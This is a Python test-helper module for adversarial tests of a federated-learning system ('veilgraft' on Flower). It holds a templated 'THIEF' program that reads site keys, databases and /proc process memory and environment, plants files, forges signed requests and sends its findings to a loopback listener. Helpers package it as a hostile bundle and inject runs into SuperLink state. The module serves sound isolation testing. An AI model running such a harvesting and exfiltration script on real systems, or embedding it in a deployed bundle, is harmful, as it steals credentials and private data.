"""What a hostile coordinator, or code that it got to run as a site's courier, tries; for tests.

`THIEF` is one program in two uses: the module of a pushed bundle, and a script that is run as the
courier's user, as though a bundle's code had run after all.
"""

import base64
import json
import secrets
import socket
import sys
import threading
import time
import warnings
from collections.abc import Iterator, Mapping, Sequence
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.cli.build import build_fab_from_files
from flwr.common.constant import NOOP_FLWR_AID, SUPERLINK_NODE_ID
from flwr.supercore.constant import NOOP_FEDERATION_ID, TaskType
from flwr.supercore.fab import Fab
from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree
from flwr.supercore.task_identity import TaskIdentity
from flwr.superlink.config_loader import get_objectstore_linkstate_factories
from flwr.superlink.federation import NoOpFederationManager
from tests.system.federation import Federation

from veilgraft import messages
from veilgraft.identity import SigningKey
from veilgraft.messages import Envelope, Hello, Question, Request
from veilgraft_client.ledger import Ledger
from veilgraft_client.separation import courier_command
from veilgraft_deploy.provision import Bundle
from veilgraft_server.registry import Registry

PATIENCE = 150.0
"""Seconds; a machine under load starts a site slowly."""

THIEF = """
import base64, json, os, socket, sys
from pathlib import Path

CONFIG = json.loads(@CONFIG@)


def tried(what):
    try:
        return repr(what())[:2000]
    except BaseException as error:
        return "no: " + type(error).__name__


def looked(path):
    path = Path(path)
    return os.listdir(path) if path.is_dir() else path.read_bytes()


def connected(path):
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(path)
        peer.sendall(b"PRI * HTTP/2.0")
        return peer.recv(100) or 1 / 0


def asked(path, parts):
    from veilgraft.messages import Envelope
    from veilgraft_client.connection import VaultClient

    envelope = Envelope(*(base64.b64decode(part) for part in parts))
    answer = VaultClient(Path(path), 20.0).handle(envelope)
    return answer.header.decode(), len(answer.payload)


def ordered(path):
    from veilgraft_client.connection import DeskClient

    return DeskClient(Path(path), 10.0).do("status")


def steal():
    found = {path: tried(lambda path=path: looked(path)) for path in CONFIG["read"]}
    for path in CONFIG["write"]:
        found["write " + path] = tried(lambda: Path(path, "planted").write_text("x"))
        found["rename " + path] = tried(lambda: os.rename(path, path + ".old"))
    for path in CONFIG["connect"]:
        found["connect " + path] = tried(lambda: connected(path))
    for name, parts in CONFIG["ask"].items():
        found["ask " + name] = tried(lambda: asked(CONFIG["socket"], parts))
    found["order"] = tried(lambda: ordered(CONFIG["socket"]))
    found["import"] = tried(lambda: sorted(
        type(each).__name__ for each in __import__("gc").get_objects()
        if type(each).__name__ in ("Vault", "Cohort", "Gate", "Ledger")
    ))
    return found


def post(found):
    with socket.create_connection(("127.0.0.1", CONFIG["port"]), 10) as listener:
        listener.sendall(json.dumps(found).encode())


if __name__ == "__main__":
    print(json.dumps(steal()))
else:
    post(steal())
    app = None
"""


@dataclass
class Trap:
    """A port on loopback that keeps what comes."""

    port: int
    caught: list[bytes] = field(default_factory=list)


@contextmanager
def trap() -> Iterator[Trap]:
    """Listen until the end."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        found = Trap(listener.getsockname()[1])

        def listen() -> None:
            with suppress(OSError):
                while True:
                    peer, _ = listener.accept()
                    with peer:
                        peer.settimeout(5)
                        found.caught.append(b"".join(iter(lambda: peer.recv(65536), b"")))  # noqa: B023

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield found
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(10)


def thief(config: Mapping[str, Any]) -> str:
    """Return the thief's program with what it is to try."""
    return THIEF.replace("@CONFIG@", repr(json.dumps(config)))


def booty(
    federation: Federation, site: str, ask: Mapping[str, Envelope], port: int
) -> dict[str, Any]:
    """Return all that is worth a try at a site, for `thief`."""
    place, data = federation.site(site), federation.data(site)
    owned = [data, place.config, place.pinned, place.pid_file, place.state, place.logs]
    owned += [place.state / name for name in ("ledger.db", "identity.pem", "site.key", "events.db")]
    owned += [place.state / name for name in ("nonces.db", "vault.log", "features", "studies")]
    owned += [place.logs / "vault.log", place.logs / "courier.log"]
    vault = federation.process(f"{site}/vault")
    if vault is not None:
        names = ("environ", "mem", "maps", "statm", "status", "stat", "cmdline", "io", "fd", "cwd")
        owned += [Path(f"/proc/{vault.pid}/{name}") for name in names]
    return {
        "read": [str(path) for path in owned],
        "write": [
            str(path) for path in (place.flower / "apps", place.flower, place.run, place.path)
        ],
        "connect": [str(place.desk)],
        "socket": str(place.socket),
        "ask": {name: _parts(envelope) for name, envelope in ask.items()},
        "port": port,
    }


def _parts(envelope: Envelope) -> list[str]:
    parts = (envelope.header, envelope.payload, envelope.signature)
    return [base64.b64encode(part).decode() for part in parts]


def as_courier(federation: Federation, site: str, *arguments: object) -> str:
    """Run Python as the courier's user in the site's world; return what it prints."""
    found = federation.site(site).courier_user
    assert found is not None
    command = courier_command([sys.executable, "-P", *map(str, arguments)], found[0], found[0])
    done = federation.tool(site, *command, seconds=180)
    assert done.returncode == 0, done.stderr
    return done.stdout


def stolen(federation: Federation, site: str, config: Mapping[str, Any]) -> dict[str, str]:
    """Run the thief as the courier's user; return what each try gave."""
    script = written(federation, thief(config))
    found: dict[str, str] = json.loads(as_courier(federation, site, script))
    return found


def written(federation: Federation, program: str) -> Path:
    """Return a file with a program that every user may read."""
    script = federation.folder / f"script-{secrets.token_hex(4)}.py"
    script.write_text(program)
    script.chmod(0o644)
    return script


def hello(federation: Federation) -> Hello:
    """Return a greeting for the federation's study."""
    return Hello(study=federation.digest, run="hostile")


def request(federation: Federation, site: str, round_: int, head: bytes) -> Request:
    """Return a request for an update."""
    return Request(
        site=site,
        study=federation.digest,
        run="hostile",
        round=round_,
        head=messages.digest(head),
        rate=1e-3,
    )


def sealed(
    question: Question,
    payload: bytes,
    key: SigningKey,
    named: SigningKey | None = None,
    ahead: int = 600,
) -> Envelope:
    """Return a question signed by `key`, in the name of `named`."""
    header = question.model_copy(
        update={
            "key": (named or key).public.id,
            "nonce": secrets.token_hex(16),
            "expires": int(time.time()) + ahead,
        }
    ).encode()
    return Envelope(header, payload, key.sign("request", header))


def bundle(
    files: Mapping[str, str], clientapp: str = "hostile.client:app", **changes: str
) -> Bundle:
    """Return a bundle as `flwr build` makes it."""
    values = {"name": "veilgraft", "version": "1.0.0", "publisher": "veilgraft", **changes}
    project = f"""
[project]
name = "{values["name"]}"
version = "{values["version"]}"
dependencies = [{values.get("dependencies", "")}]
[tool.flwr.app]
publisher = "{values["publisher"]}"
[tool.flwr.app.components]
serverapp = "veilgraft_server.app:app"
clientapp = "{clientapp}"
"""
    contents = {"pyproject.toml": project.encode()}
    contents |= {name: text.encode() for name, text in files.items()}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        return Bundle(build_fab_from_files(contents)[0])


def hostile_bundle(program: str, **changes: str) -> Bundle:
    """Return a bundle whose client app is `program`."""
    return bundle({"hostile/__init__.py": "", "hostile/client.py": program}, **changes)


class HostileSuperLink:
    """Puts runs and messages of its own into SuperLink's state: whoever has SuperLink can."""

    def __init__(self, federation: Federation) -> None:
        database = str(federation.coordinator.flower / "superlink.db")
        _, factory = get_objectstore_linkstate_factories(database, NoOpFederationManager())
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            self._state = factory.state()
        self._federation = federation
        self._task = 0

    def node(self, site: str) -> int:
        """Return the node id of a site that has enrolled."""
        with closing(Registry(self._federation.coordinator.registry)) as registry:
            found = [m.node_id for m in registry.members() if m.site == site]
        assert found and found[0] is not None
        return found[0]

    def push(
        self,
        made: Bundle,
        site: str,
        fab_id: str = "veilgraft/veilgraft",
        version: str = "1.0.0",
        kind: str = TaskType.SERVER_APP,
        records: RecordDict | None = None,
        message_type: str = "train",
    ) -> "Pushed":
        """Start a run of a bundle and send a site a message of it."""
        self._state.store_fab(Fab(made.digest, made.content, {}))
        run = self._run(made, fab_id, version, kind)
        message = Message(
            records or RecordDict({"q": ConfigRecord({"text": "more"})}),
            self.node(site),
            message_type,
        )
        message.metadata.__dict__["_message_id"] = message.object_id
        session = self._state.start_session(run)
        tree, end = get_object_tree(message), time.monotonic() + PATIENCE
        while True:
            stored, missing = self._state.store_message_and_object_tree(message, tree, session)
            if stored:
                break
            self._state.acknowledge_task_heartbeat(self._task)
            assert time.monotonic() < end, "the node did not come"
            time.sleep(0.2)
        for name, each in get_all_nested_objects(message).items():
            if name in missing:
                assert self._state.store_object(run, session, name, each.deflate())
        return Pushed(self._state, run, self._task, message.object_id)

    def _run(self, made: Bundle, fab_id: str, version: str, kind: str) -> int:
        for _ in range(20):
            run: int = self._state.create_run(
                fab_id, version, made.digest, {}, NOOP_FEDERATION_ID, None, NOOP_FLWR_AID, kind
            )
            task = self._state.get_run_info(run_ids=[run])[0].primary_task_id
            # The coordinator's own executor may be quicker; it refuses the run.
            if self._state.claim_task(task) and self._state.activate_task(task):
                TaskIdentity.task_id, TaskIdentity.run_id = task, run
                TaskIdentity.node_id = SUPERLINK_NODE_ID
                self._task = task
                return run
        raise AssertionError("no run was to be had")


@dataclass(frozen=True)
class Pushed:
    """A message under way."""

    state: Any
    run: int
    task: int
    message: str

    def reply(self, seconds: float = PATIENCE) -> Message | None:
        """Return what came back; None where nothing did in time."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if found := self.state.get_message_res({self.message}, self.run):
                reply: Message = found[0]
                return reply
            self.state.acknowledge_task_heartbeat(self.task)
            time.sleep(0.2)
        return None


def spent(federation: Federation, site: str) -> tuple[str, int]:
    """Return the head of a site's ledger, which any entry changes, and what was paid for."""
    with closing(Ledger(federation.site(site).state / "ledger.db")) as ledger:
        return ledger.head(), len(ledger.events(site))


def without_word(reply: Message, secret: Sequence[str]) -> bool:
    """Return whether a reply is an error with nothing in it of the site's."""
    return (
        reply.has_error()
        and reply.error.reason in (None, "refused", "")
        and not any(each in repr(reply) for each in secret)
    )
